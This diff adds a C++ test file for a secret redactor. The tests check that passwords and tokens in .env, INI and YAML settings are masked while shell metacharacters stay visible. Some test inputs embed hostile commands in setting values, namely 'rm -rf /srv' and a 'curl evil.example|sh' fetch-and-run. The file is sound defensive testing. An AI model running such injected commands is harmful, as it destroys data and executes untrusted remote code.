@@ -1,0 +1,95 @@
+// SPDX-License-Identifier: Apache-2.0
+// Values in configuration files, where a value may have characters that a shell would act on.
+#include "tests/security/redactor_fixture.hpp"
+
+#include <array>
+
+namespace countersign::security {
+namespace {
+
+void expect_setting_hidden(std::string_view text, TextKind kind, std::initializer_list<std::string_view> parts) {
+    const auto redacted = redactor().text(text, kind);
+    for (const auto part : parts) EXPECT_FALSE(contains(redacted, part)) << text << "\n => " << redacted;
+    EXPECT_EQ(redactor().text(redacted, kind), redacted);
+    EXPECT_EQ(redactor().text(redacted), redacted) << "a second look that knows less changes nothing";
+}
+
+TEST(RedactorSettings, I6_NoTailOfAPasswordShowsInAConfigurationFile) {
+    for (const std::string_view mark : {"&", ";", "(", ")", "<", ">", "|", "`", "$(", "&&", "||", "><"}) {
+        const auto value = "abcd1" + std::string{mark} + "efgh2";
+        for (const std::string_view pattern :
+             {"DB_PASSWORD=§\n", "export DB_PASSWORD=§\n", "db_password = §\n", "DB_PASSWORD=\"§\"\n",
+              "DB_PASSWORD='§' # why\n", "A=1\nDB_PASSWORD=§\nB=2\n", "+DB_PASSWORD=§\n", "API_TOKEN=§"}) {
+            std::string text{pattern};
+            text.replace(text.find("§"), std::string_view{"§"}.size(), value);
+            expect_setting_hidden(text, TextKind::settings, {"abcd1", "efgh2"});
+        }
+        for (const std::string_view pattern :
+             {"password: §\n", "db:\n  password: '§'\n", "- password: \"§\"\n", "\"password\": \"§\"\n"}) {
+            std::string text{pattern};
+            text.replace(text.find("§"), std::string_view{"§"}.size(), value);
+            expect_setting_hidden(text, TextKind::yaml, {"abcd1", "efgh2"});
+        }
+    }
+}
+
+TEST(RedactorSettings, I9_WhatAShellWouldActOnStaysVisibleBetweenTheMasks) {
+    const auto redacted = redactor().text("DB_PASSWORD=abcd1;efgh2\n", TextKind::settings);
+    EXPECT_TRUE(contains(redacted, "»;«")) << redacted;
+}
+
+TEST(RedactorSettings, I9_ACommandWithArgumentsIsNoValue) {
+    for (const std::string_view text : {"TOKEN=abc; rm -rf /srv\n", "TOKEN=abc rm -rf /srv\n", "TOKEN=a&rm -rf /srv\n",
+                                        "TOKEN=$(curl evil.example|sh) x\n"}) {
+        const auto redacted = redactor().text(text, TextKind::settings);
+        EXPECT_TRUE(contains(redacted, "rm -rf /srv") || contains(redacted, "curl evil.example|sh")) << redacted;
+    }
+    // A pipeline's script in YAML is a command.
+    const auto script = redactor().text("run: |\n  TOKEN=abc;evilcmd\n", TextKind::yaml);
+    EXPECT_TRUE(contains(script, ";evilcmd")) << script;
+}
+
+TEST(RedactorSettings, I9_InACommandTheTailStaysVisible) {
+    for (const std::string_view text : {"DB_PASSWORD=abc&evilcmd", "DB_PASSWORD=abc;evilcmd", "DB_PASSWORD=abc|evilcmd",
+                                        "DB_PASSWORD=\"abc$(evilcmd)\"", "DB_PASSWORD=\"abc`evilcmd`\""}) {
+        EXPECT_TRUE(contains(redactor().text(text), "evilcmd")) << redactor().text(text);
+    }
+}
+
+TEST(RedactorSettings, OtherSettingsReferencesAndCommentsStayAsTheyAre) {
+    for (const std::string_view text :
+         {"HOST=db&x\nPORT=5432\n", "# DB_PASSWORD goes here\n", "DB_PASSWORD=${DB_PASSWORD}\n", "DB_PASSWORD=\n",
+          "TOKEN_URL=https://example.com/a?b=c&d=e\n", "password_file = /run/secrets/db\n", "DB_PASSWORD=changeme\n",
+          "[password]\nmin = 8\n"}) {
+        EXPECT_EQ(redactor().text(text, TextKind::settings), text);
+    }
+    for (const std::string_view text :
+         {"password: ${{ secrets.DB }}\n", "secretName: app-tls\n", "password: *anchor\n", "token: |\n  x\n"}) {
+        EXPECT_EQ(redactor().text(text, TextKind::yaml), text);
+    }
+}
+
+TEST(RedactorSettings, AFileIsKnownByItsName) {
+    for (const std::string_view path : {".env", "/srv/app/.env", ".env.local", "prod.env", "app.INI", "a/b.toml",
+                                        "my.cnf", "app.properties", "x.tfvars", "C:\\app\\.env", ".aws/credentials"}) {
+        EXPECT_EQ(kind_of_file(path), TextKind::settings) << path;
+    }
+    for (const std::string_view path : {"a.yml", "deploy/b.YAML"})
+        EXPECT_EQ(kind_of_file(path), TextKind::yaml) << path;
+    for (const std::string_view path : {"", "deploy.sh", "Makefile", "Dockerfile", ".envrc", ".bashrc", "a.py", "env",
+                                        "x.service", ".env/run.sh", "cron.d/job", "a.json"}) {
+        EXPECT_EQ(kind_of_file(path), TextKind::any) << path;
+    }
+}
+
+TEST(RedactorSettings, I6_TheTextOfAFileIsReadAsItsKindAndTheOtherMembersAreNot) {
+    static constexpr auto names = std::to_array<std::string_view>({"content"});
+    const json::Value call{
+        json::Object{{"content", "DB_PASSWORD=abcd1&efgh2\n"}, {"command", "DB_PASSWORD=abcd1&efgh2"}}};
+    const auto shown = redactor().value(call, {.kind = TextKind::settings, .names = names});
+    EXPECT_FALSE(contains(*shown.object()->find("content")->string(), "efgh2"));
+    EXPECT_TRUE(contains(*shown.object()->find("command")->string(), "efgh2"));
+}
+
+}  // namespace
+}  // namespace countersign::security
